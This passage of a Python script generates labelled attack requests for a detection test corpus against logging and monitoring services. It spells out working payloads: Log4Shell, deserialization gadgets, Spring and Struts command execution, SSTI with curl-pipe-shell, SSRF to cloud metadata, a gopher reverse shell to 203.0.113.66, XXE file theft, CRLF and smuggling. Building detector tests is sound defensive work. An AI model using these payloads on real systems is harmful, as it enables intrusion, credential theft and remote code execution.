    attack("java", "log4shell_url_encoded", "GET", "/api/logs/search?service=" + q(jndi[6]) + "&level=error", ahdrs("logs.example.net"))
    attack("java", "log4shell_json_unicode", "POST", "/api/v2/logs", ahdrs("http-intake.logs.datadoghq.eu", ua="datadog-agent/7.59.1", ct="application/json", extra=[["DD-API-KEY", hexid(32)]]),
           '[{"ddsource":"java","service":"billing","message":%s}]' % json_u_escape(jndi[7], chars="${}"))
    attack("java", "log4shell_es_bulk", "POST", "/_bulk", ahdrs("es-logs.prod.example.net:9200", ua="Elastic-filebeat/8.16.1", ct="application/x-ndjson"),
           J({"create": {"_index": "logs-app-default"}}) + "\n" + J({"@timestamp": iso(), "message": "auth failed", "user": {"name": jndi[8]}}) + "\n")
    # deserialization
    ser = java_serialized_b64()
    attack("java", "serialized_b64_field", "POST", "/api/v1/events", ahdrs("ingest.telemetry.acme.io", ct="application/json"),
           J({"type": "session", "payload": ser, "encoding": "java-serialized"}))
    attack("java", "serialized_b64_cookie", "GET", "/jmx-console/", ahdrs("monitor.example.io", extra=[["Cookie", "rememberMe=" + ser]]))
    attack("java", "fastjson_autotype", "POST", "/api/v1/spans/import", ahdrs("tracing.example.net", ct="application/json"),
           J({"spans": [{"name": "x", "attributes": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.66:1389/Exploit", "autoCommit": True}}]}))
    attack("java", "jackson_gadget", "POST", "/api/v1/alerts/config", ahdrs("alerts.example.net", ct="application/json"),
           J({"notifier": ["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.66/inject.sql'"}]}))
    attack("java", "snakeyaml_ruler_upload", "POST", "/api/v1/rules/upload", ahdrs("alerts.example.net", ct="application/yaml"),
           "groups:\n  - name: x\n    rules: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.66/yaml-payload.jar\"]]]]\n")
    # Spring
    attack("java", "spring4shell", "POST", "/actuator/loggers", ahdrs("billing.example.net", ct="application/x-www-form-urlencoded"),
           "class.module.classLoader.resources.context.parent.pipeline.first.pattern=" + q("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }") +
           "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
    attack("java", "spring_cloud_function_spel", "POST", "/functionRouter", ahdrs("metrics-fn.example.net", ct="text/plain",
           extra=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://203.0.113.66/s -o /tmp/s\")"]]), "telemetry")
    attack("java", "actuator_env_h2", "POST", "/actuator/env", ahdrs("billing.example.net", ct="application/json"),
           J({"name": "spring.datasource.hikari.connection-test-query",
              "value": "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException { Runtime.getRuntime().exec(cmd); return \"1\"; }'; CALL EXEC('curl http://203.0.113.66/h2');"}))
    attack("java", "actuator_env_logging_config", "POST", "/actuator/env", ahdrs("billing.example.net", ct="application/json"),
           J({"name": "logging.config", "value": "http://203.0.113.66/logback.xml"}))
    attack("java", "jolokia_reload_by_url", "GET", "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.66!/logback.xml",
           ahdrs("billing.example.net"))
    attack("java", "jolokia_jndi_realm", "POST", "/jolokia", ahdrs("billing.example.net", ct="application/json"),
           J([{"type": "EXEC", "mbean": "Tomcat:type=MBeanFactory", "operation": "createJNDIRealm", "arguments": ["Tomcat:type=Engine"]},
              {"type": "WRITE", "mbean": "Tomcat:realmPath=/realm0,type=Realm", "attribute": "connectionURL", "value": "rmi://203.0.113.66:1097/jndi"},
              {"type": "EXEC", "mbean": "Tomcat:realmPath=/realm0,type=Realm", "operation": "start", "arguments": []}]))
    # Elasticsearch scripting (CVE-2014-3120 MVEL, CVE-2015-1427 Groovy)
    attack("java", "es_mvel_cve_2014_3120", "POST", "/_search?pretty", ahdrs("es-logs.prod.example.net:9200", ct="application/json"),
           J({"size": 1, "query": {"filtered": {"query": {"match_all": {}}}},
              "script_fields": {"cmd": {"script": "import java.util.*;\nimport java.io.*;\nnew Scanner(Runtime.getRuntime().exec(\"cat /etc/passwd\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}}))
    attack("java", "es_groovy_cve_2015_1427", "POST", "/logs-*/_search", ahdrs("es-logs.prod.example.net:9200", ct="application/json"),
           J({"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}))
    attack("java", "es_groovy_cve_2015_1427", "GET", "/_search?source=" + q(J({"size": 1, "script_fields": {"x": {"script": "def c=java.lang.Math.class.forName(\"java.lang.Runtime\");c.getRuntime().exec(\"wget http://203.0.113.66/e -O /tmp/e\")"}}})),
           ahdrs("es-logs.prod.example.net:9200"))
    attack("java", "struts_ognl_content_type", "POST", "/monitoring/upload.action",
           ahdrs("legacy-monitor.example.net", ct="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros))}"),
           "x")


# --------------------------------------------------------------------------- ssrf

SSRF_TARGETS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/user-data",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.66%2F4444%200%3E%261%0A%0A%0A%0D%0A",
    "file:///etc/passwd",
    "dict://127.0.0.1:11211/stats",
    "http://127.0.0.1:2375/containers/json?all=1",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://localhost:8500/v1/agent/self",
    "http://127.0.0.1:10255/pods",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:9200/_cat/indices",
    "http://169.254.170.2/v2/credentials/" + "a1b2c3d4-0000-4000-8000-abcdefabcdef",
]


def gen_ssrf():
    t = SSRF_TARGETS
    gh = grafana_headers
    cases = [
        ("grafana_datasource_create", "POST", "/api/datasources", gh(), J({"name": "prom-eu", "type": "prometheus", "access": "proxy", "url": t[0], "basicAuth": False})),
        ("grafana_datasource_create", "POST", "/api/datasources", gh(), J({"name": "es", "type": "elasticsearch", "access": "proxy", "url": t[16], "jsonData": {"timeField": "@timestamp"}})),
        ("grafana_datasource_update", "PUT", "/api/datasources/uid/P8E80F9AEF21F6940", gh(), J({"name": "loki", "type": "loki", "access": "proxy", "url": t[1], "jsonData": {"httpHeaderName1": "Metadata-Flavor"}, "secureJsonData": {"httpHeaderValue1": "Google"}})),
        ("grafana_contact_point", "POST", "/api/v1/provisioning/contact-points", gh(), J({"name": "ops-webhook", "type": "webhook", "settings": {"url": t[2], "httpMethod": "GET"}})),
        ("grafana_contact_point", "POST", "/api/v1/provisioning/contact-points", gh(), J({"name": "hook2", "type": "webhook", "settings": {"url": t[9]}})),
        ("grafana_infinity_query", "POST", "/api/ds/query", gh(), J({"queries": [{"refId": "A", "datasource": {"type": "yesoreyeram-infinity-datasource", "uid": "infinity"}, "type": "json", "source": "url", "url": t[3], "url_options": {"method": "GET"}}], "from": "now-1h", "to": "now"})),
        ("grafana_avatar_cve_2020_13379", "GET", "/avatar/test%3fd%3dredirect.rewrite.google.com%252f%253fimg%253dhttp%25253a%25252f%25252f169.254.169.254%25252flatest%25252fmeta-data%25252f", None, None),
        ("alertmanager_webhook", "POST", "/api/v1/alerts/receivers", None, J({"name": "hook", "webhook_configs": [{"url": t[12], "send_resolved": True}]})),
        ("prom_remote_read", "POST", "/api/v1/config/remote_read", None, J({"remote_read": [{"url": t[4], "read_recent": True}]})),
        ("jaeger_remote_storage", "POST", "/api/v1/datasources/test", None, J({"type": "jaeger", "url": t[5] + "?", "timeout": "5s"})),
        ("sentry_sourcemap_abs_path", "POST", "/api/4821/store/", None,
         J({"event_id": hexid(32), "platform": "javascript", "exception": {"values": [{"type": "TypeError", "value": "x is undefined",
            "stacktrace": {"frames": [{"abs_path": t[6], "filename": "app.js", "lineno": 1, "colno": 1}, {"abs_path": "http://127.0.0.1:9000/_admin/", "lineno": 2}]}}]}})),
        ("otel_exporter_endpoint", "PUT", "/api/v1/collectors/cfg-prod/config", None, J({"exporters": {"otlphttp": {"endpoint": t[7]}}, "service": {"pipelines": {"traces": {"exporters": ["otlphttp"]}}}})),
        ("webhook_test", "POST", "/api/v1/integrations/webhook/test", None, J({"url": t[8]})),
        ("url_param_encoded", "GET", "/api/v1/preview/image?url=" + q(t[10]), None, None),
        ("url_param_encoded", "GET", "/api/v1/fetch?target=" + q(t[11]), None, None),
        ("url_param_double_enc", "GET", "/api/v1/render?src=" + double_enc(t[13]), None, None),
        ("consul_probe", "POST", "/api/v1/healthchecks", None, J({"name": "consul", "type": "http", "target": t[14], "interval": "30s"})),
        ("kubelet_probe", "POST", "/api/v1/uptime/monitors", None, J({"name": "kubelet", "url": t[15], "method": "GET", "expected_status": 200})),
        ("snowplow_redirect", "GET", "/r/tp2?u=" + q(t[0]) + "&e=pv", None, None),
        ("ecs_credentials", "POST", "/api/v1/integrations/webhook/test", None, J({"url": t[17], "headers": {}})),
        ("grafana_datasource_proxy_redirect", "GET", "/api/datasources/proxy/uid/P3F8A9C1D2E/..%2f..%2f..%2flatest%2fmeta-data%2fiam%2fsecurity-credentials%2f", None, None),
        ("statuspage_import", "POST", "/api/v1/import", None, J({"source_url": "http://localhost:9090/api/v1/admin/tsdb/snapshot", "method": "POST"})),
        ("zipkin_ui_config", "GET", "/zipkin/api/v2/proxy?url=" + q("http://169.254.169.254/latest/api/token"), None, None),
        ("loki_ruler_remote_write", "POST", "/loki/api/v1/rules/remote-write-test", None, J({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/loki-role"})),
        ("jira_alert_integration", "POST", "/api/v1/notifiers/jira", None, J({"jira_url": "http://[::1]:8080/manager/html", "project": "OPS"})),
    ]
    for slug, m, uri, h, body in cases:
        if h is None:
            host = pick(["grafana.example.org", "alerts.example.net", "observability.acme-corp.de", "sentry.acme-corp.de", "monitor.example.io"])
            if slug.startswith("sentry"):
                h = [["Host", "sentry.acme-corp.de"], ["User-Agent", "sentry.javascript.browser/8.42.0"], ["Content-Type", "application/json"],
                     ["X-Sentry-Auth", "Sentry sentry_version=7, sentry_key=%s" % hexid(32)]]
            else:
                h = ahdrs(host, ct="application/json" if body is not None else None)
        attack("ssrf", slug, m, uri, h, body)


# --------------------------------------------------------------------------- xxe

def gen_xxe():
    junit_xxe = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE testsuites [\n  <!ENTITY xxe SYSTEM "%s">\n]>\n'
                 '<testsuites name="ci" tests="1" failures="1">\n  <testsuite name="unit" tests="1" failures="1">\n'
                 '    <testcase classname="tests.test_cart" name="test_apply_coupon" time="0.12">\n      <failure message="assert">&xxe;</failure>\n'
                 '    </testcase>\n  </testsuite>\n</testsuites>\n')
    oob = ('<?xml version="1.0"?>\n<!DOCTYPE coverage [\n  <!ENTITY %% remote SYSTEM "http://203.0.113.66/evil.dtd">\n  %%remote;\n  %%init;\n  %%trick;\n]>\n'
           '<coverage line-rate="0.81" branch-rate="0.7" version="7.6.1" timestamp="%d"><sources><source>/builds/shop</source></sources></coverage>\n') % ts_ms()
    soap = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>\n'
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:mon="http://monitoring.example.net/ws">\n'
            '  <soap:Body>\n    <mon:GetHostStatus><mon:hostName>&xxe;</mon:hostName></mon:GetHostStatus>\n  </soap:Body>\n</soap:Envelope>\n')
    xinclude = ('<?xml version="1.0"?>\n<testsuite xmlns:xi="http://www.w3.org/2001/XInclude" name="unit" tests="1">\n'
                '  <testcase name="t1"><system-out><xi:include parse="text" href="file:///etc/shadow"/></system-out></testcase>\n</testsuite>\n')
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]>\n'
           '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>\n')
    lol = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
           ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n'
           ' <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n]>\n<testsuites><testsuite name="&lol5;"/></testsuites>\n')
    trx = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE TestRun [<!ENTITY cfg SYSTEM "file:///C:/inetpub/wwwroot/web.config">]>\n'
           '<TestRun id="%s" name="build 4821" xmlns="http://microsoft.com/schemas/VisualStudio/TeamTest/2010">\n'
           '  <Results><UnitTestResult testName="PayslipServiceTests.GetLatest" outcome="Failed"><Output><ErrorInfo><Message>&cfg;</Message></ErrorInfo></Output></UnitTestResult></Results>\n</TestRun>\n') % hexid(8)
    param_exfil = ('<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">\n'
                   '<!ENTITY % dtd SYSTEM "http://203.0.113.66/combine.dtd">\n%dtd;\n]>\n<metrics><metric name="x">&send;</metric></metrics>\n')
    cases = [
        ("junit_file_passwd", "/api/v1/test-reports?project=checkout-api&branch=main", "application/xml", junit_xxe % "file:///etc/passwd"),
        ("junit_k8s_token", "/api/v1/test-reports?project=billing", "application/xml", junit_xxe % "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("junit_ssrf_metadata", "/api/v4/projects/42/test_reports", "text/xml", junit_xxe % "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("cobertura_oob_dtd", "/api/v1/coverage/upload?format=cobertura", "application/xml", oob),
        ("soap_monitoring", "/ws/MonitoringService", "text/xml; charset=utf-8", soap),
        ("junit_xinclude", "/api/v1/test-reports?project=frontend", "application/xml", xinclude),
        ("svg_logo_upload", "/api/v1/branding/logo", "image/svg+xml", svg),
        ("billion_laughs", "/api/v1/test-reports?project=shop", "application/xml", lol),
        ("trx_upload", "/api/v1/test-reports?format=trx", "application/xml", trx),
        ("param_entity_php_filter", "/api/v1/metrics/import?format=xml", "application/xml", param_exfil),
        ("otlp_content_type_switch", "/v1/traces", "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE resourceSpans [<!ENTITY x SYSTEM "file:///proc/self/environ">]>\n<resourceSpans><span name="&x;"/></resourceSpans>\n'),
        ("soap_netbios_unc", "/services/AlertService.asmx", "text/xml; charset=utf-8",
         '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY z SYSTEM "\\\\203.0.113.66\\share\\x">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Ack><id>&z;</id></Ack></soap:Body></soap:Envelope>\n'),
        ("nagios_xml_status", "/nagiosxi/api/v1/system/import", "application/xml",
         '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]>\n<foo>&xxe;</foo>\n'),
        ("rss_status_feed", "/api/v1/statuspage/feeds/import", "application/rss+xml",
         '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % ext SYSTEM "ftp://203.0.113.66:2121/x.dtd"> %ext;]>\n<rss version="2.0"><channel><title>status</title></channel></rss>\n'),
        ("whitespace_entity_junit", "/api/v1/test-reports?project=ledger", "application/xml",
         '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY   xxe   SYSTEM   "file:///etc/group"  >]><testsuites><testsuite name="a"><testcase name="b"><failure>&xxe;</failure></testcase></testsuite></testsuites>'),
    ]
    for slug, uri, ct, body in cases:
        host = pick(["ci-insights.example.net", "reports.acme-corp.de", "monitor.example.io", "gitlab.example.net"])
        if uri.startswith("/v1/"):
            host = pick(OTLP_HOSTS)
        ua = pick(["curl/8.5.0", "python-requests/2.31.0", "Apache-HttpClient/4.5.14 (Java/11.0.21)", "Buildkite-Agent/3.87.1"])
        attack("xxe", slug, "POST", uri, ahdrs(host, ua=ua, ct=ct), body)


# --------------------------------------------------------------------------- ssti

def gen_ssti():
    payloads = [
        ("jinja_cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("jinja_lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
        ("jinja_mro", "{{ ''.__class__.__mro__[1].__subclasses__()[408]('curl http://203.0.113.66/j|sh',shell=True,stdout=-1).communicate() }}"),
        ("jinja_config", "{{ config.__class__.__init__.__globals__['os'].popen('env').read() }}"),
        ("jinja_attr_bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("jinja_for_block", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('whoami').read() }}{% endif %}{% endfor %}"),
        ("freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }"),
        ("velocity_runtime", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"),
        ("twig_filter_system", "{{['cat /etc/passwd']|filter('system')}}"),
        ("twig_undefined_filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
        ("erb_backticks", "<%= `id` %>"),
        ("smarty_system", "{system('cat /etc/passwd')}"),
        ("mako_os", "${self.module.cache.util.os.system('id')}"),
        ("thymeleaf_spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("nunjucks_constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
        ("handlebars_proto", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
        ("blade_php", "@php system('id'); @endphp"),
        ("spel_alert", "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.66/s')}"),
        ("jinja_url_encoded", None),
        ("jinja_json_unicode", None),
    ]
    for i, (slug, p) in enumerate(payloads):
        k = i % 5
        if slug == "jinja_url_encoded":
            attack("ssti", slug, "GET", "/api/v1/templates/preview?template=" + q("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}") + "&alert=HighErrorRate",
                   ahdrs("alerts.example.net"))
            continue
        if slug == "jinja_json_unicode":
            attack("ssti", slug, "POST", "/api/v1/alert-rules", ahdrs("keep.example.net", ct="application/json"),
                   '{"name":"disk","message":%s}' % json_u_escape("{{ lipsum.__globals__.os.popen('curl http://203.0.113.66/x|sh').read() }}", chars="{}'"))
            continue
        if k == 0:
            attack("ssti", slug, "POST", "/api/v1/alerts/templates", ahdrs("alerts.example.net", ct="application/json"),
                   J({"name": "slack-critical", "body": "Alert {{ alert.name }} fired: " + p, "channel": "#ops"}))
        elif k == 1:
            attack("ssti", slug, "POST", "/api/v1/provisioning/contact-points", grafana_headers(),
                   J({"name": "ops-email", "type": "email", "settings": {"addresses": "ops@example.com", "subject": p, "message": "{{ template \"default.message\" . }}"}}))
        elif k == 2:
            attack("ssti", slug, "PUT", "/api/v1/rules/checkout/high-latency", ahdrs("ruler.example.net", ct="application/json"),
                   J({"alert": "HighLatency", "expr": "histogram_quantile(0.99, rate(http_request_duration_seconds_bucket[5m])) > 1",
                      "annotations": {"summary": p, "description": "latency high on {{ $labels.instance }}"}}))
        elif k == 3:
            attack("ssti", slug, "POST", "/api/v1/reports/render", ahdrs("reports.acme-corp.de", ct="application/x-www-form-urlencoded"),
                   qs([("title", "Weekly SLO report"), ("header", p), ("format", "pdf")]))
        else:
            attack("ssti", slug, "GET", "/api/v1/notifications/test?" + qs([("channel", "webhook"), ("text", p)]), ahdrs("alerts.example.net"))


# --------------------------------------------------------------------------- crlf

def gen_crlf():
    cases = [
        ("grafana_redirect_set_cookie", "grafana.example.org", "GET", "/login?redirect_to=%2Fd%2Fabc%0d%0aSet-Cookie:%20grafana_session%3Dattacker0123456789", None, None),
        ("snowplow_redirect_location", "collector.snowplow.example.net", "GET", "/r/tp2?u=https%3A%2F%2Fshop.example.com%2F%0D%0ALocation%3A%20https%3A%2F%2Fevil.example%2F&e=pv", None, None),
        ("response_splitting_html", "telemetry.example.com", "GET", "/api/v1/track?callback=cb%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", None, None),
        ("double_encoded", "telemetry.example.com", "GET", "/beacon?page=%2Fhome%250d%250aSet-Cookie%3A%20sid%3Dfixated", None, None),
        ("unicode_crlf", "status.example.io", "GET", "/api/v1/redirect?to=/%E5%98%8A%E5%98%8DSet-Cookie:%20session=attacker", None, None),
        ("lf_only", "logs.example.net", "GET", "/export/download?filename=logs.csv%0aContent-Disposition:%20attachment;%20filename=update.exe", None, None),
        ("log_forging_query", "ingest.telemetry.acme.io", "GET", "/api/v1/log?level=info&msg=login%20failed%20for%20bob%0d%0a2026-12-05T10:00:00Z%20INFO%20auth%20login%20succeeded%20user=admin%20src=10.0.0.1", None, None),
        ("log_forging_path", "ingest.telemetry.acme.io", "GET", "/healthz%0d%0a2026-12-05T10:00:01Z%20INFO%20audit%20user=admin%20action=disable_mfa%20result=ok", None, None),
        ("webhook_custom_header", "grafana.example.org", "POST", "/api/v1/provisioning/contact-points", "application/json",
         J({"name": "hook", "type": "webhook", "settings": {"url": "https://hooks.example.net/alert", "httpHeaderName1": "X-Tenant",
                                                           "httpHeaderValue1": "ops\r\nHost: internal-admin.svc.cluster.local\r\nX-Forwarded-For: 127.0.0.1"}})),
        ("otlp_exporter_headers", "observability.acme-corp.de", "PUT", "/api/v1/collectors/cfg-prod/config", "application/json",
         J({"exporters": {"otlphttp": {"endpoint": "https://otlp.example.net", "headers": {"Authorization": "Bearer x\r\nX-Scope-OrgID: admin-tenant\r\n\r\nGET /admin HTTP/1.1"}}}})),
        ("header_injection_form", "monitor.example.io", "POST", "/api/v1/notify/email", "application/x-www-form-urlencoded",
         "to=ops%40example.com&subject=Disk%20full%0d%0aBcc:%20leak%40evil.example%0d%0aX-Mailer:%20pwn&body=see+dashboard"),
        ("mixed_case_header", "telemetry.example.com", "GET", "/collect?ref=x%0D%0AsEt-CoOkIe:%20admin%3Dtrue%3B%20Path%3D%2F", None, None),
        ("cr_only", "telemetry.example.com", "GET", "/pixel.gif?u=%2F%0dLocation:%20http://evil.example/", None, None),
        ("loki_label_header", "loki-gateway.monitoring.svc", "GET", "/loki/api/v1/tail?query=%7Bapp%3D%22x%22%7D&X-Scope-OrgID=t%0d%0aX-Scope-OrgID:%20admin", None, None),
        ("json_escaped_crlf_redirect", "sentry.acme-corp.de", "POST", "/api/0/auth/redirect", "application/json",
         '{"next":"/organizations/acme/\\r\\nSet-Cookie: sentrysid=attacker; Path=/"}'),
    ]
    for slug, host, m, uri, ct, body in cases:
        attack("crlf", slug, m, uri, ahdrs(host, ct=ct), body)


# --------------------------------------------------------------------------- protocol

def raw_record(category, slug, raw):
    rec = {"id": _next_id(category, slug), "set": SET, "category": category,
           "expect": "detect", "raw_b64": base64.b64encode(raw).decode("ascii")}
    ATTACKS.append(rec)


def raw_req(lines, body=b""):
    head = "\r\n".join(lines).encode("latin-1")
    return head + b"\r\n\r\n" + body


def gen_protocol():
    smuggled = "0\r\n\r\nGET /api/admin/users HTTP/1.1\r\nHost: grafana.example.org\r\nX-Ignore: x"
    attack("protocol", "cl_te_smuggle", "POST", "/v1/logs",
           [["Host", "otel.internal.example.org"], ["User-Agent", "OTel-OTLP-Exporter-Java/1.44.1"], ["Content-Type", "application/json"], ["Transfer-Encoding", "chunked"]], smuggled)
    attack("protocol", "te_obfuscated_xchunked", "POST", "/loki/api/v1/push",
           [["Host", "loki-gateway.monitoring.svc"], ["User-Agent", "promtail/3.3.0"], ["Content-Type", "application/json"], ["Transfer-Encoding", "xchunked"]],
           "0\r\n\r\nPOST /loki/api/v1/delete?query=%7Bapp%3D~%22.%2B%22%7D HTTP/1.1\r\nHost: loki\r\n\r\n")
    attack("protocol", "te_duplicate", "POST", "/api/v2/spans",
           [["Host", "zipkin.observability.svc:9411"], ["User-Agent", "okhttp/4.12.0"], ["Content-Type", "application/json"], ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]],
           "0\r\n\r\nGET /actuator/env HTTP/1.1\r\nHost: localhost\r\n\r\n")
    attack("protocol", "te_list", "POST", "/services/collector/event",
           [["Host", "splunk-hec.example.com:8088"], ["User-Agent", "Go-http-client/1.1"], ["Content-Type", "application/json"], ["Transfer-Encoding", "gzip, chunked, identity"]],
           "0\r\n\r\nGET /services/server/info HTTP/1.1\r\nHost: localhost:8089\r\n\r\n")
    attack("protocol", "trace_method", "TRACE", "/v1/traces", [["Host", pick(OTLP_HOSTS)], ["User-Agent", "curl/7.88.1"], ["Accept", "*/*"], ["Cookie", "session=abc123"]])
    attack("protocol", "track_method", "TRACK", "/", [["Host", "grafana.example.org"], ["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000815)"], ["Accept", "*/*"]])
    attack("protocol", "connect_metadata", "CONNECT", "169.254.169.254:80", [["Host", "169.254.169.254:80"], ["User-Agent", "python-requests/2.31.0"]])
    attack("protocol", "absolute_uri_internal", "GET", "http://127.0.0.1:9093/api/v2/silences", [["Host", "alertmanager.example.net"], ["User-Agent", "curl/7.88.1"], ["Accept", "*/*"]])
    attack("protocol", "range_dos", "GET", "/public/build/app.js",
           [["Host", "grafana.example.org"], ["User-Agent", "Go-http-client/1.1"], ["Range", "bytes=0-," + ",".join("5-%d" % k for k in range(0, 1300))], ["Accept-Encoding", "gzip"]])
    attack("protocol", "duplicate_host", "POST", "/v1/metrics",
           [["Host", "otel.internal.example.org"], ["Host", "169.254.169.254"], ["User-Agent", "OTel-OTLP-Exporter-Go/1.32.0"], ["Content-Type", "application/json"]], "{\"resourceMetrics\":[]}")
    # raw requests for things the structured fields cannot express
    body = b'{"streams":[]}'
    raw_record("protocol", "te_space_before_colon", raw_req([
        "POST /loki/api/v1/push HTTP/1.1", "Host: loki-gateway.monitoring.svc", "User-Agent: promtail/3.3.0", "Content-Type: application/json",
        "Content-Length: %d" % len(body), "Transfer-Encoding : chunked"], body))
    body = b"0\r\n\r\nGET /api/admin/settings HTTP/1.1\r\nHost: grafana\r\n\r\n"
    raw_record("protocol", "obs_fold_te", raw_req([
        "POST /api/annotations HTTP/1.1", "Host: grafana.example.org", "User-Agent: Mozilla/5.0", "Content-Type: application/json",
        "Content-Length: %d" % len(body), "Transfer-Encoding:", " chunked"], body))
    body = "q=' union select login,password from user--".encode("cp037")
    raw_record("protocol", "charset_ibm037", raw_req([
        "POST /api/logs/search HTTP/1.1", "Host: logs.example.net", "User-Agent: python-requests/2.31.0",
